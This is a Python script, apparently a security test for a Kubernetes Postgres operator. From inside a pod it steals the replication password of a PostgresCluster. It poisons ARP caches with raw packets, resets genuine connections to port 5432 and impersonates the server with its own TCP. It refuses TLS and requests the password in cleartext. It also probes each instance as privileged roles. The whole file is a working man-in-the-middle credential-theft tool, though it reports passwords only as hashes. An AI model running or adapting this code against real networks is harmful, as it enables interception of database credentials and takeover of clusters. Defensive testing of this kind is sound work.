"""An attack from inside a pod or container: steal the password of the replication role of a PostgresCluster.

    attack.py SECONDS HOST[,HOST...]

It claims the address of each instance towards the others by false ARP answers, takes over their connections to port 5432
with a TCP of its own, refuses TLS, and asks whoever comes for a cleartext password. It also connects to each instance
itself, as roles that only the cluster may use. Its last line is a JSON document; passwords are shown as SHA-256 only.
Python's standard library is enough.
"""

import fcntl
import hashlib
import json
import select
import socket
import struct
import sys
import time

PORT = 5432
ETH_IP, ETH_ARP = 0x0800, 0x0806
SYN, RST, PSH, ACK = 2, 4, 8, 16
NOBODY = bytes([2, 0xEE, 0, 0, 0, 1])  # an address of the link layer that no interface has
SIOCGIFADDR, SIOCGIFHWADDR = 0x8915, 0x8927
SSL_REQUEST, GSS_REQUEST = 80877103, 80877104


def interface_to(host):
    """The name, address and link-layer address of the interface that leads to a host."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((host, 9))
        own = probe.getsockname()[0]
        for _, name in socket.if_nameindex():
            asked = struct.pack("256s", name.encode()[:15])
            try:
                address = socket.inet_ntoa(fcntl.ioctl(probe, SIOCGIFADDR, asked)[20:24])
            except OSError:
                continue
            if address == own:
                return name, own, fcntl.ioctl(probe, SIOCGIFHWADDR, asked)[18:24]
    raise SystemExit(f"no interface leads to {host}")


def neighbour(host):
    """The link-layer address of a host, from the kernel's table; it is asked for by a connection."""
    for _ in range(20):
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as probe:
            probe.settimeout(0.2)
            probe.connect_ex((host, PORT))
        with open("/proc/net/arp", encoding="ascii") as table:
            for line in table.read().splitlines()[1:]:
                fields = line.split()
                if fields[0] == host and fields[3] != "00:00:00:00:00:00":
                    return bytes.fromhex(fields[3].replace(":", ""))
    return None


def checksum(data):
    """The Internet checksum."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Thief:
    """Pretends to be each instance towards the others."""

    def __init__(self, hosts):
        self.name, self.own, self.mac = interface_to(hosts[0])
        self.link = {host: mac for host in hosts if (mac := neighbour(host))}
        self.talks = {}
        self.startups, self.passwords = set(), set()
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.bind((self.name, 0))
        self.turn = 0

    def lie(self):
        """Each time another instance is the one that all others look for here."""
        hosts = sorted(self.link)
        claimed = hosts[self.turn // 8 % len(hosts)]
        self.turn += 1
        for host in hosts:
            if host != claimed:
                self.arp(host, claimed, self.mac)
                # What the true one answers goes nowhere.
                self.arp(claimed, host, NOBODY)

    def arp(self, to, claimed, mac):
        """One ARP answer: `claimed` is at `mac`."""
        head = self.link[to] + self.mac + struct.pack("!H", ETH_ARP)
        body = struct.pack("!HHBBH", 1, ETH_IP, 6, 4, 2) + mac + socket.inet_aton(claimed)
        self.socket.send(head + body + self.link[to] + socket.inet_aton(to))

    def run(self, seconds):
        """Lies and listens for this long."""
        until, next_lie = time.monotonic() + seconds, 0.0
        while (now := time.monotonic()) < until:
            if now >= next_lie:
                next_lie = now + 0.25
                self.lie()
            if select.select([self.socket], [], [], 0.1)[0]:
                self.frame(self.socket.recv(65535))

    def frame(self, frame):
        """One frame; only TCP from an instance to port 5432 of another matters."""
        if len(frame) < 54 or struct.unpack("!H", frame[12:14])[0] != ETH_IP or frame[23] != 6 or frame[:6] != self.mac:
            return
        size = (frame[14] & 15) * 4
        packet = frame[14 : 14 + struct.unpack("!H", frame[16:18])[0]]
        source, target = socket.inet_ntoa(packet[12:16]), socket.inet_ntoa(packet[16:20])
        segment = packet[size:]
        sport, dport, seq, ack, offset, flags = struct.unpack("!HHIIBB", segment[:14])
        if dport != PORT or target not in self.link or target == self.own:
            return
        data = segment[(offset >> 4) * 4 :]
        talk = (frame[6:12], source, sport, target)
        if flags & RST:
            self.talks.pop(talk, None)
        elif flags & SYN:
            self.talks[talk] = {"seq": 1001, "next": (seq + 1) & 0xFFFFFFFF, "read": b""}
            self.tcp(talk, 1000, self.talks[talk]["next"], SYN | ACK)
        elif talk not in self.talks:
            # A connection to the true instance: it ends, so that a new one comes here.
            self.tcp(talk, ack, 0, RST)
        elif data and seq == self.talks[talk]["next"]:
            state = self.talks[talk]
            state["next"] = (seq + len(data)) & 0xFFFFFFFF
            state["read"] += data
            answer = self.answer(state)
            self.tcp(talk, state["seq"], state["next"], ACK | PSH, answer)
            state["seq"] += len(answer)

    def answer(self, state):
        """What a server says that wants a password in the clear."""
        read = state["read"]
        if len(read) < 8:
            return b""
        length, code = struct.unpack("!II", read[:8])
        if length == 8 and code in (SSL_REQUEST, GSS_REQUEST):
            state["read"] = read[8:]
            return b"N"
        if code == 196608 and len(read) >= length:
            words = read[8:length].split(b"\0")
            user = dict(zip(words[::2], words[1::2])).get(b"user", b"").decode(errors="replace")
            self.startups.add(user)
            state["user"], state["read"] = user, read[length:]
            return b"R" + struct.pack("!II", 8, 3)
        if read[:1] == b"p":
            password = read[5 : 1 + struct.unpack("!I", read[1:5])[0]].rstrip(b"\0")
            self.passwords.add((state.get("user", ""), hashlib.sha256(password).hexdigest()))
        return b""

    def tcp(self, talk, seq, ack, flags, data=b""):
        """One TCP segment to the instance of this talk, in the name of its target."""
        mac, to, port, claimed = talk
        ends = socket.inet_aton(claimed) + socket.inet_aton(to)
        fields = [PORT, port, seq & 0xFFFFFFFF, ack, 5 << 4, flags, 65000, 0, 0]
        fields[7] = checksum(ends + struct.pack("!BBH", 0, 6, 20 + len(data)) + struct.pack("!HHIIBBHHH", *fields) + data)
        segment = struct.pack("!HHIIBBHHH", *fields) + data
        head = [0x45, 0, 20 + len(segment), 0, 0x4000, 64, 6, 0]
        head[7] = checksum(struct.pack("!BBHHHBBH", *head) + ends)
        packet = struct.pack("!BBHHHBBH", *head) + ends + segment
        self.socket.send(mac + self.mac + struct.pack("!H", ETH_IP) + packet)


def asked_by(host, user, database):
    """What an instance asks a stranger for who says he is this role: the server's first answer in a word."""
    options = b"user\0" + user + b"\0database\0" + database + b"\0\0"
    if database == b"replication":
        options = b"user\0" + user + b"\0replication\0true\0\0"
    try:
        with socket.create_connection((host, PORT), timeout=3) as stream:
            stream.sendall(struct.pack("!II", len(options) + 8, 196608) + options)
            stream.settimeout(3)
            answer = stream.recv(9)
    except OSError as error:
        return type(error).__name__
    if answer[:1] == b"R" and len(answer) >= 9:
        return f"authentication {struct.unpack('!I', answer[5:9])[0]}"
    return "refused" if answer[:1] == b"E" else f"unexpected {answer[:1]!r}"


def main():
    """Attacks, and says what came of it."""
    seconds, hosts = float(sys.argv[1]), sys.argv[2].split(",")
    result = {"raw": True, "startups": [], "passwords": [], "asked": {}}
    for host in hosts:
        for user, database in ((b"evenkeel_replication", b"replication"), (b"evenkeel_replication", b"postgres"), (b"postgres", b"postgres")):
            result["asked"][f"{host} {user.decode()} {database.decode()}"] = asked_by(host, user, database)
    try:
        thief = Thief(hosts)
        thief.run(seconds)
        result["startups"], result["passwords"] = sorted(thief.startups), sorted(thief.passwords)
    except PermissionError:
        result["raw"] = False
        time.sleep(seconds)
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
